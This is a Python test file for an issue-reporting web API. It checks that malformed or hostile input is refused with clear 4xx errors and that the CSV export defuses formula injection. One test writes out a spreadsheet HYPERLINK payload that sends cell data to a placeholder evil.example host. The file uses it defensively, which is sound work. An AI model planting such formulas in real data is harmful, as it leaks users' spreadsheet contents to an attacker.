"""Writes the database would refuse get a 4xx naming the reason before or instead of a 500 (hostile input)."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from xml.etree import ElementTree

import httpx

from services.report_it.tests.test_lifecycle import new_report

FEED = "/v1/reports/feed.atom"


def assert_problem(response: httpx.Response, status: int) -> dict:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    problem = response.json()
    assert problem["status"] == status and problem["detail"]
    return problem


def test_what_would_break_a_write_is_refused_with_a_reason(api: httpx.Client, staff_headers, token_for) -> None:
    admin = {"Authorization": f"Bearer {token_for('admin', 'manager', sub='admin.refused')}"}
    service = {"Authorization": f"Bearer {token_for('service', sub='service:footprints')}"}

    nul_key = api.post("/v1/open311/api-keys", json={"name": "web\x00site"}, headers=admin)
    assert "name" in str(assert_problem(nul_key, 422)["errors"])

    no_category = api.post(
        "/v1/response-templates", json={"title": "Tidied", "text": "We tidied it", "category": ""}, headers=admin
    )
    assert assert_problem(no_category, 404)["code"] == "CategoryNotFound"

    report = new_report(api)
    api.post(f"/v1/reports/{report['id']}/updates", json={"status": "acknowledged"}, headers=staff_headers)
    long_code = {
        "event_id": f"evt-{uuid.uuid4()}",
        "kind": "allocated",
        "footprint_code": "f" * 33,
        "occurred_at": datetime.now(UTC).isoformat(),
    }
    refused = api.post(f"/v1/reports/{report['id']}/case-events", json=long_code, headers=service)
    assert "footprint_code" in str(assert_problem(refused, 422)["errors"])
    assert api.get(f"/v1/reports/{report['id']}").json()["status"] == "acknowledged"  # nothing was applied


def test_text_that_would_break_an_output_format(api: httpx.Client, staff_headers) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    report = new_report(api, description=formula, address="@Library Street")
    with api.stream("GET", "/v1/exports/reports.csv", headers=staff_headers) as response:
        text = "".join(response.iter_text())
    (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["id"] == report["id"]]
    assert row["address"] == "'@Library Street"  # shown as text by a spreadsheet, never run
    assert row["long"] == "-2.632"  # numbers stay numbers
    assert formula not in text.replace("'" + formula, "")

    # U+FFFE and U+FFFF are not characters; the public Atom feed could not carry them.
    refused = api.post(
        "/v1/reports",
        json={"category": "litter", "location": {"lat": 53.545, "long": -2.632}, "description": "odd \ufffe text"},
    )
    assert "description" in str(assert_problem(refused, 422)["errors"])
    feed = api.get(FEED)
    assert feed.status_code == 200, feed.text
    ElementTree.fromstring(feed.content)  # well-formed, whatever was stored
